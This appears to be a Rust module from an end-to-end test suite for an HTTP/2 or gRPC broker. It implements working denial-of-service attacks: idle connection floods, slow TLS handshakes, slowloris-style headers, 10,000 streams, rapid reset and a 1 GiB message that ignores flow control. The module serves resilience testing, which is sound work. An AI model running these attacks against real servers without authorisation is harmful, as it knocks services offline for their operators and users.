//! The attacks. Each goes on until it is dropped, in bursts, so that it takes this process no more than it has.

use std::net::SocketAddr;
use std::time::Duration;

use broker_e2e::raw::{
    CANCEL, CONTINUATION, END_HEADERS, END_STREAM, GET_TOKEN, HEADERS, RST_STREAM, Raw, call, frame, hello,
};
use futures_util::future::join_all;
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

/// Between two bursts.
const PAUSE: Duration = Duration::from_millis(250);
/// Between two bytes.
const DRIP: Duration = Duration::from_millis(100);
const IDLE: usize = 1000;
const SLOW: usize = 200;
const STREAMS: u32 = 10_000;

/// One kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// 1,000 connections that say nothing.
    Idle,
    /// 200 connections whose handshakes (TLS) come byte by byte.
    Handshakes,
    /// 200 connections whose headers come byte by byte.
    Slow,
    /// 10,000 streams on one connection.
    Streams,
    /// 10,000 calls on one connection, each taken back.
    Resets,
    /// A message of 1 GiB, as far as it is taken.
    Message,
}

impl Attack {
    pub(crate) const ALL: [Self; 6] =
        [Self::Idle, Self::Handshakes, Self::Slow, Self::Streams, Self::Resets, Self::Message];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Idle => "1,000 idle connections",
            Self::Handshakes => "200 slow TLS handshakes",
            Self::Slow => "200 slow headers",
            Self::Streams => "10,000 streams",
            Self::Resets => "rapid reset",
            Self::Message => "1 GiB message",
        }
    }

    /// Whether it is one on TLS.
    pub(crate) fn is_on_tls(self) -> bool {
        self == Self::Handshakes
    }

    /// Never ends.
    pub(crate) async fn go_on(self, address: SocketAddr) {
        match self {
            Self::Idle => idle(address).await,
            Self::Handshakes => drop(join_all((0..SLOW).map(|_| slow_handshake(address))).await),
            Self::Slow => drop(join_all((0..SLOW).map(|_| slow(address))).await),
            Self::Streams | Self::Resets | Self::Message => loop {
                self.burst(address).await;
                tokio::time::sleep(PAUSE).await;
            },
        }
    }

    async fn burst(self, address: SocketAddr) {
        let mut raw = Raw::connect(address).await;
        for id in (0..STREAMS).map(|number| 2 * number + 1) {
            let frames = match self {
                Self::Streams => frame(HEADERS, END_HEADERS, id, &call(GET_TOKEN)),
                Self::Resets => {
                    let taken_back = frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes());
                    [frame(HEADERS, END_HEADERS | END_STREAM, id, &call(GET_TOKEN)), taken_back].concat()
                }
                _ => return message(&mut raw).await,
            };
            if !raw.send(&frames).await {
                return;
            }
        }
    }
}

/// Those that are closed are opened again.
async fn idle(address: SocketAddr) {
    let mut held = Vec::new();
    loop {
        while held.len() < IDLE {
            held.extend(TcpStream::connect(address).await.ok());
        }
        tokio::time::sleep(PAUSE).await;
        held.retain(|stream| !is_closed(stream));
    }
}

fn is_closed(stream: &TcpStream) -> bool {
    let mut byte = [0; 1];
    matches!(stream.try_read(&mut byte), Ok(0)) || stream.take_error().is_ok_and(|error| error.is_some())
}

async fn slow(address: SocketAddr) {
    loop {
        let mut raw = Raw::connect(address).await;
        raw.send(&frame(HEADERS, 0, 1, &[])).await;
        for byte in call(GET_TOKEN).iter().cycle() {
            if !raw.send(&frame(CONTINUATION, 0, 1, &[*byte])).await {
                break;
            }
            tokio::time::sleep(DRIP).await;
        }
    }
}

async fn slow_handshake(address: SocketAddr) {
    loop {
        // Where there is no room it is tried again.
        let Ok(mut stream) = TcpStream::connect(address).await else { continue };
        for byte in hello() {
            if stream.write_all(&[byte]).await.is_err() {
                break;
            }
            tokio::time::sleep(DRIP).await;
        }
    }
}

/// The announcement, and then what no window allows any more.
async fn message(raw: &mut Raw) {
    const DATA: u8 = 0x0;
    let announced = [&[0], (1_u32 << 30).to_be_bytes().as_slice()].concat();
    raw.send(&frame(HEADERS, END_HEADERS, 1, &call(GET_TOKEN))).await;
    raw.send(&frame(DATA, 0, 1, &announced)).await;
    let piece = frame(DATA, 0, 1, &[0; 16 << 10]);
    let mut sent = 0;
    while sent < 1 << 30 && raw.send(&piece).await {
        sent += piece.len();
        tokio::task::yield_now().await;
    }
}
